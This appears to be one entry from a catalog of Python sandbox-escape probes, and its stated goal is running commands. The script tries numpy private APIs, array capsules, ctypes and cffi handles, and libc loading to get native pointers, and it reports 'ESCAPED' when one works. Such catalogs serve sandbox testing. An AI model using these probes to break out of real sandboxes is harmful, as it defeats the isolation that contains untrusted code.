# escape: 305
# packages: numpy
# technique: function pointers and addresses that numpy hands to other compilers
# family: memory
# goal: run-command
# first-seen: numpy.ufunc private API, dlpack, ctypes
import numpy as np, os
found = []
def get(f):
    try: found.append(f())
    except Exception: pass
get(lambda: np.core._multiarray_umath._get_experimental_dtype_api(0))
get(lambda: np.add._resolve_dtypes_and_context((np.dtype("f8"),) * 2 + (None,)))
get(lambda: np.arange(3).__array_struct__)
get(lambda: np.arange(3).ctypes.data_as)
get(lambda: np.random.PCG64().ctypes)
get(lambda: np.random.PCG64().cffi)
get(lambda: np.ctypeslib.load_library("libc.so.6", "/lib"))
get(lambda: np.core._internal.ctypes.CDLL(None))
for each in found:
    if type(each).__name__ in ("PyCapsule", "CDLL") or isinstance(each, tuple):
        print("ESCAPED:" + repr(each)[:60])
